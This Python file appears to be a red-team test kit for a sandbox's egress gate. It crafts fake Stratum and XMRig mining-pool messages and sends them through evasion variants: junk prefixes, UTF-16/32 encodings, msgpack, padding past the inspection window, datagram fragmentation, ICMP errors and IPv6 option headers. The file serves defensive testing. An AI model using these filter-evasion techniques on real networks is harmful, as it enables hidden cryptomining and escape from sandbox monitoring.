"""Programs of test_redteam_round12: pool messages opened so that the UDP gate's hold does not see them open.

The UDP gate (egress/gateway/udpgate.py) holds a datagram that leaves a text message open
(egress/detect/textframe.py) until the message is whole and judged. The pool detectors read what a lenient server
decodes (egress/detect/jsonrpc.py): junk before the first bracket skipped, NULs and byte-order marks dropped (the
ASCII of UTF-16 and UTF-32), msgpack maps. Each opening here is one of those, cut in pieces sent on one flow: a
piece that reaches the server is a piece of a pool message the gate let go before it judged it.

The server is `tests.security.redteam_surfaces_kit.udp_sink_main` (the marker, and each datagram's first bytes, in
its log). Fake pools only: nothing here mines.
"""

from __future__ import annotations

import contextlib
import socket
import sys
import time
from collections.abc import Callable

from tests.security.redteam_msgpack_kit import pack

MARK = b"5ec7e7-rt12"
"""The chosen bytes every message carries (a pool's job would read them as the miner's agent or wallet)."""
WALLET = "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge"

_MARK = MARK.decode()
SUBSCRIBE = ('{"id":1,"method":"mining.subscribe","params":["' + _MARK + '/2.5"]}\n').encode()
LOGIN = (
    '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"' + WALLET + '","pass":"x","agent":"XMRig/6.21.0 '
    + _MARK + '"}}\n'
).encode()  # fmt: skip
BENIGN = ('{"id":7,"method":"sum","params":[1,2,3],"note":"' + _MARK + '"}\n').encode()
"""A JSON-RPC line no detector names: the controls' message."""


def _msgpack_login() -> bytes:
    params = {"login": WALLET, "pass": "x", "agent": "XMRig/6.21.0 " + _MARK}
    return pack({"id": 1, "method": "login", "params": params})


OPENINGS: dict[str, Callable[[bytes], bytes]] = {
    "junk": lambda line: b"x" + line,
    "comment": lambda line: b"/* " + MARK + b" */ " + line,
    "string": lambda line: b'"' + MARK + b'" ' + line,
    "utf16": lambda line: line.decode().encode("utf-16"),  # with its byte-order mark
    "utf32": lambda line: line.decode().encode("utf-32-le"),
    "plain": lambda line: line,
}
"""How each message opens: junk before its bracket, a comment, a JSON string before it, in UTF-16 or UTF-32."""
LONG = ('{"id":1,"params":["' + "a" * 4000 + _MARK + '"],"method":"mining.subscribe"}\n').encode()
"""Stratum's subscribe over the gate's hold (4,096 bytes), its method last."""
PADDED_LOGIN = LOGIN.replace(b'"}}\n', b'","pad":"' + b"x" * 5000 + b'"}}\n')
"""XMRig's login in one datagram past the inspection window (4,096 bytes): 5,214 bytes (a parameter of padding
after the ones a pool reads), fragmented on the wire."""
PADDED_SUBSCRIBE = SUBSCRIBE.replace(b'/2.5"', b"/2.5" + b" " * 5000 + b'"')
"""Stratum's subscribe likewise: 5,066 bytes, its agent string padded."""
LONG_PASS = LOGIN.replace(b'"pass":"x"', b'"pass":"' + b"x" * 2100 + b'"')
"""XMRig's login whose password is 2,100 bytes: its ``agent`` key lies past the 2,048 bytes either side of the method
that the detectors read as its message (`egress.detect.jsonscan.message_at`). 2,304 bytes: one datagram."""
MESSAGES: dict[str, bytes] = {
    "stratum": SUBSCRIBE,
    "xmrig": LOGIN,
    "benign": BENIGN,
    "long": LONG,
    "padded-xmrig": PADDED_LOGIN,
    "padded-stratum": PADDED_SUBSCRIBE,
    "long-pass-xmrig": LONG_PASS,
}


def message(opening: str, kind: str) -> bytes:
    """The bytes of ``kind``'s message under ``opening`` (``msgpack``: XMRig's login as one msgpack map)."""
    if opening == "msgpack":
        return _msgpack_login()
    return OPENINGS[opening](MESSAGES[kind])


def pieces(data: bytes, count: int) -> list[bytes]:
    """``data`` cut in ``count`` pieces of near equal size."""
    return [data[len(data) * n // count : len(data) * (n + 1) // count] for n in range(count)]


def udp_pieces_main() -> None:
    """``python -c '...udp_pieces_main()' OPENING KIND ADDRESS PORT [COUNT]``: the message cut in COUNT pieces (3)
    sent on one flow a tenth of a second apart; then waits past the gate's hold (2 s) for answers. Prints ``sent N,
    answers M`` (the sink answers every datagram it gets)."""
    opening, kind, address = sys.argv[1], sys.argv[2], sys.argv[3]
    port, count = int(sys.argv[4]), int(sys.argv[5]) if len(sys.argv) > 5 else 3
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    sent = answers = 0
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(0.1)
        for piece in pieces(message(opening, kind), count):
            sock.sendto(piece, (address, port))
            sent += 1
            with contextlib.suppress(TimeoutError):
                answers += bool(sock.recv(65535))
        deadline = time.monotonic() + 3.0  # past the gate's hold: a held piece given up is dropped, not answered
        while time.monotonic() < deadline:
            with contextlib.suppress(TimeoutError):
                answers += bool(sock.recv(65535))
    print(f"sent {sent}, answers {answers}", flush=True)


def icmp_about_own_flow_main() -> None:
    """``python -c '...icmp_about_own_flow_main()' SANDBOX ADDRESS PORT SPORT [headers]``: a benign datagram from
    SPORT to ADDRESS:PORT (the gate lets it pass: the flow is the sandbox's own, in conntrack), then three ICMP port
    unreachables to ADDRESS quoting a "reply" ADDRESS:PORT → SANDBOX:SPORT whose payload is Stratum's subscribe
    (the marker in it): an error about the sandbox's own forwarded flow, which the ruleset lets through as related.
    ``headers``: the quote is the reply's IP and UDP headers only (what an error needs to say). Prints ``answered
    N, sent 3``."""
    from tests.security.redteam_round11_kit import icmp_error, ip_packet, transport

    sandbox, address, port, sport = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    v6 = ":" in address
    family = socket.AF_INET6 if v6 else socket.AF_INET
    answered = 0
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.bind((sandbox, sport))
        sock.settimeout(2.0)
        sock.sendto(b"hello from the sandbox\n", (address, port))
        with contextlib.suppress(TimeoutError):
            answered += bool(sock.recv(65535))
    payload = b"" if sys.argv[5:] == ["headers"] else SUBSCRIBE
    quoted = ip_packet(address, sandbox, socket.IPPROTO_UDP, transport(address, sandbox, 17, port, sport, payload))
    message = icmp_error("unreach", quoted, b"", v6)
    proto = socket.IPPROTO_ICMPV6 if v6 else socket.IPPROTO_ICMP
    with socket.socket(family, socket.SOCK_RAW, proto) as raw:
        for _ in range(3):
            raw.sendto(message, (address, 0))
    print(f"answered {answered}, sent 3", flush=True)


def icmp_listen_main() -> None:
    """``python -c '...icmp_listen_main()' 4|6``: the attacker's pool reading ICMP (a raw socket): logs each error
    (``heard icmp N bytes from SRC, marker yes|no``)."""
    v6 = sys.argv[1] == "6"
    family, proto = (socket.AF_INET6, socket.IPPROTO_ICMPV6) if v6 else (socket.AF_INET, socket.IPPROTO_ICMP)
    with socket.socket(family, socket.SOCK_RAW, proto) as sock:
        print("listening", flush=True)
        while True:
            data, peer = sock.recvfrom(65535)
            if data[20 * (not v6)] in ((3, 11, 12) if not v6 else (1, 2, 3, 4)):  # errors only (v4: after its header)
                marker = "yes" if MARK in data else "no"
                print(f"heard icmp {len(data)} bytes from {peer[0]}, marker {marker}", flush=True)


__all__ = [
    "MARK",
    "MESSAGES",
    "OPENINGS",
    "icmp_about_own_flow_main",
    "icmp_listen_main",
    "message",
    "pieces",
    "udp_options_main",
    "udp_pieces_main",
]


def _destination_options(next_header: int, data: bytes) -> bytes:
    """An IPv6 Destination Options header (RFC 8200 §4.2, §4.6) holding ``data`` in options of an unassigned type
    whose two high bits say "skip it" (0x1e: a receiver that does not know it goes on), at most 255 bytes each,
    padded to a multiple of 8 bytes."""
    options = b""
    for at in range(0, len(data), 255):
        chunk = data[at : at + 255]
        options += bytes([0x1E, len(chunk)]) + chunk
    gap = -(2 + len(options)) % 8
    options += bytes([1, gap - 2]) + bytes(gap - 2) if gap >= 2 else bytes(gap)  # PadN, or Pad1
    return bytes([next_header, (2 + len(options)) // 8 - 1]) + options


def udp_options_main() -> None:
    """``python -c '...udp_options_main()' SANDBOX ADDRESS PORT``: three UDP datagrams to ADDRESS:PORT (an allowed
    network) from SANDBOX, each a benign payload behind an IPv6 Destination Options header whose options carry
    Stratum's subscribe (written whole on a raw socket). Prints ``sent 3``."""
    from tests.security.redteam_round11_kit import ip_packet, send_raw, transport

    sandbox, address, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    udp = transport(sandbox, address, socket.IPPROTO_UDP, 41240, port, b"hello from the sandbox\n")
    for _ in range(3):
        send_raw(ip_packet(sandbox, address, 60, _destination_options(socket.IPPROTO_UDP, SUBSCRIBE) + udp), address)
    print("sent 3", flush=True)


def tcp_login_main() -> None:
    """``python -c '...tcp_login_main()' KIND ADDRESS PORT``: KIND's message (``long-pass-xmrig``...) on a TCP
    connection, then up to 5 s for the pool's answer; prints ``sent N, answer <first bytes>`` (``answer none``
    when the connection closed or nothing came; ``job yes`` when the answer holds a job)."""
    kind, address, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    data = message("plain", kind)
    got = b""
    with contextlib.suppress(OSError), socket.create_connection((address, port), timeout=5) as sock:
        sock.sendall(data)
        deadline = time.monotonic() + 5.0
        while time.monotonic() < deadline and b"\n" not in got:
            chunk = sock.recv(65535)
            if not chunk:
                break
            got += chunk
    job = "yes" if b'"job"' in got else "no"
    print(f"sent {len(data)}, answer {got[:40]!r}, job {job}" if got else f"sent {len(data)}, answer none", flush=True)
